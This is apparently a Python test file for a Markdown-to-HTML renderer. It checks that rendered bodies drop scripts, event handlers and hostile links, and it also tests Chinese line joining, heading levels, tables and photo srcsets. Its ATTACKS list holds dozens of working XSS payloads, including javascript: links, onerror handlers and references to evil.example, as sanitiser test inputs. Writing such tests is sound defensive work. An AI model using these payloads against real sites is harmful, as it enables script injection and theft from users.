"""Bodies: the words of a text come out, and nothing that runs, loads or leads astray."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bangyang.model.photos import Photo, Rendition
from bangyang.render.markdown import body

PHOTO = Photo(
    whole=(
        Rendition(480, 320, "assets/photos/a-480.webp", "assets/photos/a-480.jpg"),
        Rendition(960, 640, "assets/photos/a-960.webp", "assets/photos/a-960.jpg"),
    ),
    portrait=(Rendition(480, 600, "assets/photos/p-480.webp", "assets/photos/p-480.jpg"),),
    focus=(50.0, 50.0),
)
ALLOWED = set(
    "p br hr blockquote ul ol li pre code strong em b i del sub sup a img picture source "
    "h2 h3 h4 h5 h6 table thead tbody tr th td".split()
)
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "th": {"scope"},
    "source": {"type", "srcset", "sizes"},
    "img": {"src", "srcset", "sizes", "width", "height", "alt", "loading", "decoding"},
}
CONTROLS = "".join(map(chr, range(0x21)))


class Judge(HTMLParser):
    """Reads HTML as a browser would, and notes whatever should not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            self._judge_address(tag, name, value or "")

    def _judge_address(self, tag: str, name: str, value: str) -> None:
        # As URL parsers do: what leads is stripped up to the space, tabs and line ends everywhere.
        bare = re.sub(r"[\t\n\r]", "", value).lstrip(CONTROLS).casefold()
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare)
        if name == "href" and scheme and scheme[1] not in {"http", "https", "mailto", "tel"}:
            self.wrong.append(f"{tag} {name}={value}")
        if name in {"src", "srcset"}:
            for part in value.split(", "):
                if not part.startswith("../assets/photos/"):
                    self.wrong.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


def judged(html: str) -> Judge:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge


def html(source: str) -> str:
    return body(source, {"a.jpg": PHOTO, "照片(1).jpg": PHOTO}, "../").html


ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='a.jpg' onerror='alert(1)'>",
    '<img src="a.jpg" srcset="https://evil.example/x.png 2x">',
    "<img src=https://evil.example/x.png>",
    "![x](https://evil.example/x.png)",
    '![x](a.jpg"onerror="alert(1))',
    '![" onerror="alert(1)](a.jpg)',
    "![<script>alert(1)</script>](a.jpg)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style='background:url(https://evil.example/)' onclick=alert(1)>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=q><button>x</button></form>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    '<a title="<th><img src=x onerror=alert(1)>" href="https://a.example/">x</a>',
    '<a title="<h1><img src=a.jpg onerror=alert(1)>" href="/">x</a>',
    "<a title='\"onmouseover=alert(1)' href='/'>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<p>x<b>y<i>z",
    "</p></div></main></body></html>",
    "<div id=search-results class=md-main>x</div>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "# <img src=x onerror=alert(1)>",
    "[x]: <javascript:alert(1)> 'y'",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<img src=a.jpg alt='<img src=x onerror=alert(1)>'>",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_hostile_remains(attack: str) -> None:
    for source in (attack, f"前文{attack}后文", f"> - {attack}", f"{attack}\n\n{attack}"):
        assert judged(html(source)).wrong == []


@given(st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "\n", "\n\n", "`", "[", "](", ")"])))
def test_nor_of_any_mixture(pieces: list[str]) -> None:
    assert judged(html("".join(pieces))).wrong == []


@given(st.text("<>/=\"'`a&;:#!-[]()sript \n\t\x02\x03|*_\\", max_size=80))
def test_nor_of_any_text(text: str) -> None:
    assert judged(html(text)).wrong == []


def test_words_in_braces_stay_words() -> None:
    assert "{{ 7*7 }}{% raw %}" in judged(html("{{ 7*7 }}{% raw %}{{ config }}")).text


def test_lines_of_chinese_are_joined_without_a_space() -> None:
    assert html("第一行，\n第二行\n**第三**\n行") == "<p>第一行，第二行<strong>第三</strong>行</p>"
    assert html("用 GPS\n定位 3\ntimes") == "<p>用 GPS\n定位 3\ntimes</p>"
    assert html("他说\n“好”\n就走") == "<p>他说“好”就走</p>"


def test_code_keeps_its_lines() -> None:
    assert "第一行\n第二行" in html("    第一行\n    第二行\n")


@pytest.mark.parametrize(
    ("levels", "ranks"),
    [
        ((1, 2, 2), (2, 3, 3)),
        ((3, 5, 3), (2, 3, 2)),
        ((6,), (2,)),
        (range(1, 7), (2, 3, 4, 5, 6, 6)),
    ],
)
def test_headings_begin_below_the_pages_own(
    levels: tuple[int, ...], ranks: tuple[int, ...]
) -> None:
    source = "\n\n".join(f"{'#' * level} 标题{i}" for i, level in enumerate(levels))
    for i, rank in enumerate(ranks):
        assert f"<h{rank}>标题{i}</h{rank}>" in html(source)


def test_tables_say_what_their_headers_head() -> None:
    made = html("| 年 | 户 |\n|---|--:|\n| 2025 | 12 |\n")
    assert made.count('<th scope="col">') == 2
    assert "<td>12</td>" in made
    assert "style" not in made


def test_pictures_come_from_the_photo_job_with_their_measures() -> None:
    made = html('看![何时 "何地"](a.jpg "题")')
    assert 'alt="何时 &quot;何地&quot;"' in made
    assert 'width="960" height="640"' in made
    assert 'srcset="../assets/photos/a-480.jpg 480w, ../assets/photos/a-960.jpg 960w"' in made
    assert "<picture>" in html("![](照片(1).jpg)")
    assert html("![x](b.jpg)") == "<p></p>"


def test_words_are_handed_on_paragraph_by_paragraph() -> None:
    made = body(
        "# 头\n\n第一\n段 <b>粗</b>\n\n- 一\n- 二\n\n| 甲 | 乙 |\n|---|---|\n| 1 | 2 |", {}, ""
    )
    assert made.headings == ("头",)
    assert made.paragraphs == ("第一段 粗", "一", "二", "甲", "乙", "1", "2")


def test_the_last_text_leaves_nothing_behind() -> None:
    html("[甲]: https://a.example/\n\n[甲]")
    assert html("[甲]") == "<p>[甲]</p>"
